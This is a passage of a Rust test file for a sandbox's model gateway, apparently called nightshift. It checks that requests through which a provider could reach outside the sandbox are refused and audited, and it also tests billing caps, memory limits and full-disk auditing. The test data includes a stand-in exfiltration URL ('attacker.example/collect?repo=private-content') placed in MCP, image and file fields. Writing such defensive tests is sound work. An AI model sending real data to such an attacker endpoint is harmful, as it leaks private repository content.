            &format!("models = [\"gpt-5*\"]\n{oai}\n"),
            1,
        );
    std::fs::write(&path, text).unwrap();
    state
}

/// The status line's code and the body of a raw response.
fn status_and_body(out: &str) -> (u16, String) {
    let status = out
        .split(' ')
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    let body = out.split("\r\n\r\n").nth(1).unwrap_or("").to_string();
    (status, body)
}

/// The bodies of the `model_call` entries of `run` in a state's store
/// (a run opened directly has no record for `show`).
fn direct_calls(state: &State, run: &str) -> Vec<Value> {
    rusqlite::Connection::open(state.path().join("state.db"))
        .unwrap()
        .prepare("SELECT body FROM audit WHERE kind = 'model_call' AND run = ?1 ORDER BY seq")
        .unwrap()
        .query_map([run], |r| r.get::<_, String>(0))
        .unwrap()
        .map(|b| serde_json::from_str::<Value>(&b.unwrap()).unwrap())
        .collect()
}

fn wait_for_calls(state: &State, run: &str, n: usize) -> Vec<Value> {
    let give_up = std::time::Instant::now() + std::time::Duration::from_secs(60);
    loop {
        let calls = direct_calls(state, run);
        if calls.len() >= n || std::time::Instant::now() > give_up {
            return calls;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

/// Every way a request could make the provider reach outside the sandbox
/// (a URL or file source, an MCP server, a server-side tool, stored state,
/// a beta that turns one on), in each shape, streamed and not, is refused
/// with a reason naming where it is; nothing of it reaches the endpoint,
/// which logs everything it receives; and each refusal is audited.
#[test]
fn every_way_out_through_the_gateway_is_refused_and_nothing_reaches_the_endpoint() {
    let server = ModelServer::start();
    let state = state_with_models(&server, "");
    let (_rt, _gw, socket) = direct_gateway(&state, "r1");
    let user = |content: Value| vec![json!({"role": "user", "content": content})];
    let messages = |extra: Value| {
        let mut b = json!({"model": "claude-x", "max_tokens": 100, "messages": user(json!("hi"))});
        b.as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        b
    };
    let chat = |extra: Value| {
        let mut b = json!({"model": "gpt-5", "messages": user(json!("hi"))});
        b.as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        b
    };
    let responses = |extra: Value| {
        let mut b = json!({"model": "gpt-5", "input": "hi"});
        b.as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        b
    };
    let secret = "https://attacker.example/collect?repo=private-content";
    // (what, path, extra header, body)
    let cases: Vec<(&str, &str, &str, Value)> = vec![
        (
            "mcp_servers",
            "/v1/messages",
            "",
            messages(json!({"mcp_servers": [{"type": "url", "url": secret, "name": "x"}]})),
        ),
        (
            "web_fetch tool",
            "/v1/messages",
            "",
            messages(json!({"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]})),
        ),
        (
            "web_search tool",
            "/v1/messages",
            "",
            messages(json!({"tools": [{"type": "web_search_20250305", "name": "web_search"}]})),
        ),
        (
            "image url source",
            "/v1/messages",
            "",
            messages(
                json!({"messages": user(json!([{"type": "image", "source": {"type": "url", "url": secret}}]))}),
            ),
        ),
        (
            "document url source",
            "/v1/messages",
            "",
            messages(
                json!({"messages": user(json!([{"type": "document", "source": {"type": "url", "url": secret}}]))}),
            ),
        ),
        (
            "file source",
            "/v1/messages",
            "",
            messages(
                json!({"messages": user(json!([{"type": "image", "source": {"type": "file", "file_id": "file_1"}}]))}),
            ),
        ),
        (
            "url inside a tool result",
            "/v1/messages",
            "",
            messages(
                json!({"messages": user(json!([{"type": "tool_result", "tool_use_id": "t", "content": [{"type": "image", "source": {"type": "url", "url": secret}}]}]))}),
            ),
        ),
        (
            "mcp beta",
            "/v1/messages",
            "anthropic-beta: mcp-client-2025-04-04\r\n",
            messages(json!({})),
        ),
        (
            "files beta",
            "/v1/messages",
            "anthropic-beta: files-api-2025-04-14\r\n",
            messages(json!({})),
        ),
        (
            "chat image url",
            "/v1/chat/completions",
            "",
            chat(
                json!({"messages": user(json!([{"type": "image_url", "image_url": {"url": secret}}]))}),
            ),
        ),
        (
            "chat web_search_options",
            "/v1/chat/completions",
            "",
            chat(json!({"web_search_options": {}})),
        ),
        (
            "chat file",
            "/v1/chat/completions",
            "",
            chat(
                json!({"messages": user(json!([{"type": "file", "file": {"file_id": "file_1"}}]))}),
            ),
        ),
        (
            "responses mcp tool",
            "/v1/responses",
            "",
            responses(
                json!({"tools": [{"type": "mcp", "server_label": "x", "server_url": secret, "require_approval": "never"}]}),
            ),
        ),
        (
            "responses web_search",
            "/v1/responses",
            "",
            responses(json!({"tools": [{"type": "web_search"}]})),
        ),
        (
            "responses previous_response_id",
            "/v1/responses",
            "",
            responses(json!({"previous_response_id": "resp_1"})),
        ),
        (
            "responses conversation",
            "/v1/responses",
            "",
            responses(json!({"conversation": "conv_1"})),
        ),
        (
            "responses image url",
            "/v1/responses",
            "",
            responses(
                json!({"input": [{"role": "user", "content": [{"type": "input_image", "image_url": secret}]}]}),
            ),
        ),
        (
            "responses file url",
            "/v1/responses",
            "",
            responses(
                json!({"input": [{"role": "user", "content": [{"type": "input_file", "file_url": secret}]}]}),
            ),
        ),
        (
            "responses item reference",
            "/v1/responses",
            "",
            responses(json!({"input": [{"type": "item_reference", "id": "msg_1"}]})),
        ),
    ];
    let mut refused = 0;
    for (what, path, headers, body) in &cases {
        for stream in [false, true] {
            let mut body = body.clone();
            body["stream"] = json!(stream);
            let out = raw_call_with(&socket, path, headers, &body);
            let (status, text) = status_and_body(&out);
            assert_eq!(status, 403, "{what} (stream {stream}): {out}");
            let error: Value = serde_json::from_str(&text).unwrap();
            let message = error["error"]["message"].as_str().unwrap();
            assert!(
                message.starts_with("refused by nightshift's model gateway: "),
                "{what}: {message}"
            );
            assert_eq!(
                error["error"]["code"], "nightshift_request_egress",
                "{what}"
            );
            refused += 1;
        }
    }
    assert!(
        server.requests().is_empty(),
        "reached the endpoint: {:?}",
        server
            .requests()
            .iter()
            .map(|r| r.json())
            .collect::<Vec<_>>()
    );
    // The reason names where: the agent can fix its request.
    let out = raw_call(
        &socket,
        "/v1/messages",
        &messages(
            json!({"messages": user(json!([{"type": "text", "text": "x"}, {"type": "image", "source": {"type": "url", "url": secret}}]))}),
        ),
    );
    assert!(out.contains("`messages[0].content[1].source`"), "{out}");
    refused += 1;
    let calls = wait_for_calls(&state, "r1", refused);
    assert_eq!(calls.len(), refused);
    assert!(calls
        .iter()
        .all(|c| c["outcome"] == "refused:request_egress" && c["charged_tokens"] == 0));
    // No URL (the agent's content) is in the audit.
    assert!(!serde_json::to_string(&calls).unwrap().contains("attacker"));
    // And the gateway still forwards what it understands, in each shape.
    for (path, body) in [
        ("/v1/messages", messages(json!({}))),
        ("/v1/chat/completions", chat(json!({}))),
        ("/v1/responses", responses(json!({}))),
    ] {
        let out = raw_call(&socket, path, &body);
        assert!(out.starts_with("HTTP/1.1 200"), "{out}");
    }
    assert_eq!(server.requests().len(), 3);
}

/// A server tool the owner enabled for an endpoint passes for a run whose
/// content is public, and never for a private one (the label gate).
#[test]
fn an_enabled_server_tool_passes_only_for_a_public_run() {
    let server = ModelServer::start();
    let state = state_with_endpoint_options(&server, "server_tools = [\"web_search\"]", "");
    let body = json!({"model": "claude-x", "max_tokens": 100,
        "messages": [{"role": "user", "content": "hi"}],
        "tools": [{"type": "web_search_20250305", "name": "web_search", "max_uses": 1}]});
    let (_rt, _gw, socket) = direct_gateway(&state, "private");
    let out = raw_call(&socket, "/v1/messages", &body);
    assert!(
        out.starts_with("HTTP/1.1 403") && out.contains("private"),
        "{out}"
    );
    assert!(server.requests().is_empty());
    let (_rt2, _gw2, socket) = direct_gateway_with(
        &state,
        "public",
        policies::Confidentiality::Public,
        1_000_000,
    );
    let out = raw_call(&socket, "/v1/messages", &body);
    assert!(out.starts_with("HTTP/1.1 200"), "{out}");
    assert_eq!(server.requests().len(), 1);
    assert_eq!(server.requests()[0].json()["tools"], body["tools"]);
}

/// `n: 128` asks the endpoint for 128 choices, each billed: refused unless
/// the owner allows that many, and when allowed reserved as 128 times the
/// bound, so that the run's cap holds (it was `used 625546 of 5000`).
#[test]
fn n_choices_are_refused_or_reserved_whole_and_the_cap_holds() {
    let server = ModelServer::start();
    for _ in 0..4 {
        server.push(Step::text("ok").usage(50, 1000));
    }
    let body = json!({"model": "gpt-5", "n": 128, "messages": [{"role": "user", "content": "hi"}]});
    // By default: one choice a call.
    let state = state_with_models(&server, "");
    let (_rt, _gw, socket) =
        direct_gateway_with(&state, "r1", policies::Confidentiality::Private, 5000);
    let out = raw_call(&socket, "/v1/chat/completions", &body);
    assert!(
        out.starts_with("HTTP/1.1 400") && out.contains("max_choices"),
        "{out}"
    );
    assert!(server.requests().is_empty());

    // Allowed by the owner: each call fits the cap whole.
    let state = state_with_endpoint_options(&server, "", "max_choices = 128");
    let (_rt2, _gw2, socket) =
        direct_gateway_with(&state, "r2", policies::Confidentiality::Private, 5000);
    let mut answered = 0;
    for stream in [false, true, false, true] {
        let mut body = body.clone();
        body["stream"] = json!(stream);
        let out = raw_call(&socket, "/v1/chat/completions", &body);
        if out.starts_with("HTTP/1.1 200") {
            answered += 1;
        }
    }
    assert!(answered >= 1);
    let calls = wait_for_calls(&state, "r2", 4);
    let charged: u64 = calls
        .iter()
        .map(|c| c["charged_tokens"].as_u64().unwrap())
        .sum();
    assert!(charged <= 5000, "charged {charged} of 5000: {calls:?}");
    for c in calls.iter().filter(|c| c["outcome"] == "ok") {
        assert!(
            c["charged_tokens"].as_u64() <= c["reserved_tokens"].as_u64(),
            "{c}"
        );
    }
    // What the endpoint was asked: the bound per choice, within the cap.
    for r in server.requests() {
        let bound = r.json()["max_completion_tokens"].as_u64().unwrap();
        assert!(128 * bound <= 5000, "bound {bound} per choice");
    }
}

/// Sixteen calls at once, each a 32 MiB body of `[0,0,...]` (the
/// gateway's limit): the supervisor never holds them all, nor a tree of any
/// of them; its peak stays under 128 MiB, four times the body limit (it
/// was 1.5 GiB; measured 80 MiB).
#[test]
fn sixteen_bodies_of_32_mib_at_once_keep_the_supervisor_small() {
    let server = ModelServer::start();
    let state = state_with_models(&server, "");
    let repo = make_repo();
    let script = r#"
import http.client, threading
size = 32 * 1024 * 1024 - 64
body = b"[" + b"0," * ((size - 2) // 2) + b"0]"
port = int(os.environ["ANTHROPIC_BASE_URL"].rsplit(":", 1)[1])
statuses = []
def one():
    try:
        c = http.client.HTTPConnection("127.0.0.1", port, timeout=300)
        c.request("POST", "/v1/chat/completions", body=body, headers={"content-type": "application/json"})
        r = c.getresponse()
        r.read()
        statuses.append(r.status)
    except (BrokenPipeError, ConnectionResetError):
        # Refused before its body was read (told to retry, the
        # connection closed): the refusal's answer lost to the close.
        statuses.append("closed")
    except Exception as e:
        statuses.append(repr(e))
ts = [threading.Thread(target=one) for _ in range(16)]
[t.start() for t in ts]
[t.join() for t in ts]
print("STATUSES " + json.dumps(sorted(statuses, key=str)), flush=True)
"#;
    let mut child = state
        .cmd()
        .args([
            "run",
            "--repo",
            repo.path().to_str().unwrap(),
            "--image",
            &image(),
            "--",
            "python3",
            "-c",
            &format!("{CLIENT}\n{script}"),
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id();
    let mut peak_kib = 0u64;
    while child.try_wait().unwrap().is_none() {
        if let Ok(s) = std::fs::read_to_string(format!("/proc/{pid}/status")) {
            if let Some(v) = s
                .lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
            {
                peak_kib = peak_kib.max(v);
            }
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let out = child.wait_with_output().unwrap();
    let run = run_id(&state);
    let log = state.output_log(&run);
    assert!(out.status.success(), "{}{log}", stderr(&out));
    eprintln!("supervisor peak {peak_kib} KiB");
    assert!(peak_kib > 0);
    assert!(
        peak_kib < 128 * 1024,
        "supervisor peak {peak_kib} KiB with 16 bodies of 32 MiB"
    );
    let line = log
        .lines()
        .find_map(|l| l.strip_prefix("STATUSES "))
        .unwrap_or_else(|| panic!("{log}"));
    let statuses: Vec<Value> = serde_json::from_str(line).unwrap();
    assert_eq!(statuses.len(), 16, "{log}");
    // Each was read and refused (not JSON the gateway forwards), or told to
    // retry while the others were held: the connection closed with that
    // answer, which a client still sending its 32 MiB may see as the close
    // alone (a loaded machine did, four of sixteen).
    assert!(
        statuses
            .iter()
            .all(|s| s == 400 || s == 429 || s == "closed"),
        "{statuses:?}"
    );
    assert!(statuses.iter().any(|s| s == 400), "{statuses:?}");
    assert!(server.requests().is_empty());
}

/// A small filesystem of its own (a tmpfs), unmounted on drop.
struct SmallDisk {
    dir: tempfile::TempDir,
}

impl SmallDisk {
    fn new(size: &str) -> SmallDisk {
        let dir = tempfile::tempdir().unwrap();
        let out = std::process::Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={size}"), "tmpfs"])
            .arg(dir.path())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "mounting a tmpfs (needs root): {}",
            stderr(&out)
        );
        SmallDisk { dir }
    }

    /// Fills the disk to the last byte.
    fn fill(&self) {
        use std::io::Write;
        let mut f = std::fs::File::create(self.dir.path().join("fill")).unwrap();
        let block = vec![0u8; 4096];
        while f.write_all(&block).is_ok() {}
        while f.write_all(&[0]).is_ok() {}
    }

    fn free(&self) {
        std::fs::remove_file(self.dir.path().join("fill")).unwrap();
    }
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount")
            .arg(self.dir.path())
            .output();
    }
}

/// On a full state disk a model call cannot be audited: it is refused
/// (never made unaudited), the calls after it are refused and told why
/// until the audit log can be written, and every entry that waited is
/// written once there is room: no call is missing from the audit.
#[test]
fn model_calls_on_a_full_disk_are_refused_and_every_one_is_audited() {
    let disk = SmallDisk::new("16m");
    let server = ModelServer::start();
    let template = state_with_models(&server, "");
    let state = State {
        dir: tempfile::tempdir_in(disk.dir.path()).unwrap(),
        store_url: None,
    };
    std::fs::copy(
        template.path().join("models.toml"),
        state.path().join("models.toml"),
    )
    .unwrap();
    // The state's store exists (as `nightshift` leaves it).
    assert!(state.run(&["runs"]).status.success());
    let (rt, gw, socket) = direct_gateway(&state, "r1");
    let chat = json!({"model": "gpt-5", "messages": [{"role": "user", "content": "hi"}]});
    server.push(Step::text("before"));
    let out = raw_call(&socket, "/v1/chat/completions", &chat);
    assert!(out.starts_with("HTTP/1.1 200"), "{out}");
    assert_eq!(wait_for_calls(&state, "r1", 1).len(), 1);

    disk.fill();
    // Enough calls that the store must write past its preallocated pages.
    let mut statuses = Vec::new();
    let mut told = false;
    for i in 0..20 {
        server.push(Step::text("during"));
        let out = raw_call(&socket, "/v1/chat/completions", &chat);
        let (status, body) = status_and_body(&out);
        statuses.push(status);
        told |= status == 503 && body.contains("cannot write its audit log");
        if i > 3 && told {
            break;
        }
    }
    assert!(told, "no call was refused for the audit: {statuses:?}");
    let made = statuses.len() + 1;

    disk.free();
    server.push(Step::text("after"));
    let out = raw_call(&socket, "/v1/chat/completions", &chat);
    assert!(out.starts_with("HTTP/1.1 200"), "{out}");
    rt.block_on(gw.close());
    let calls = direct_calls(&state, "r1");
    let outcomes: Vec<&str> = calls
        .iter()
        .map(|c| c["outcome"].as_str().unwrap())
        .collect();
    eprintln!("statuses {statuses:?}, outcomes {outcomes:?}");
    assert_eq!(calls.len(), made + 1, "{outcomes:?} for {statuses:?}");
    assert!(outcomes.contains(&"refused:audit"), "{outcomes:?}");
    // Every call the endpoint answered is in the audit.
    let answered = outcomes.iter().filter(|o| **o == "ok").count();
    assert_eq!(answered, server.requests().len(), "{outcomes:?}");
    assert!(state.verify().status.success());
}
